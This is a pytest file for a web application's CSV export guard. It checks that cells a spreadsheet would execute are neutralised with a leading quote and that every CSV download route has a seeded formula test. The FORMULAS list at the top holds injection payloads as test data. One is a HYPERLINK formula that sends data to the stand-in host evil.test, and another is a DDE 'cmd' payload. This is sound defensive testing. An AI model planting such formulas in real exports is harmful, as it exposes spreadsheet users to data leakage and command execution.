"""Every CSV export opens in a spreadsheet as data: a typed formula stays text."""

from __future__ import annotations

import csv
import io

import pytest

from core.spreadsheet import csv_text, spreadsheet_safe

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak","Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    assert spreadsheet_safe(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Aalst", "Kinderopvang - De Rups", "e-mail@x.be", 3, -4, 2.5])
def test_ordinary_text_and_numbers_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_every_cell_of_an_export_goes_through_the_guard_header_included():
    text = csv_text(["=label", "value"], [["=1+1", -3], ["Gent", 7]], delimiter=";")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["'=label", "value"], ["'=1+1", "-3"], ["Gent", "7"]]


# Each CSV download and the test that seeds a formula into it. A new export fails here until it
# writes through core.spreadsheet and gets its own seeded test.
EXPORTS_WITH_A_FORMULA_TEST = {
    "regional.figures_csv": "tests/core/test_regional_figures.py::"
    "test_a_figure_label_typed_as_a_formula_stays_text_in_the_export",
    "loket.dashboard_csv": "tests/plugins/loket/test_views.py::"
    "test_an_area_named_as_a_formula_stays_text_in_the_monitoring_export",
    "training.figures_csv": "tests/plugins/training/test_figures.py::"
    "test_a_cohort_named_as_a_formula_stays_text_in_the_export",
}


def test_every_csv_download_has_a_test_that_seeds_a_formula(sqlite_settings):
    from pathlib import Path

    from tests.support.apps import probe_app

    app = probe_app(sqlite_settings)
    downloads = {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith(".csv") or "csv" in rule.endpoint
    }
    assert downloads == set(EXPORTS_WITH_A_FORMULA_TEST)
    root = Path(__file__).resolve().parents[2]
    for reference in EXPORTS_WITH_A_FORMULA_TEST.values():
        path, _, name = reference.partition("::")
        assert f"def {name}(" in (root / path).read_text(encoding="utf-8"), reference
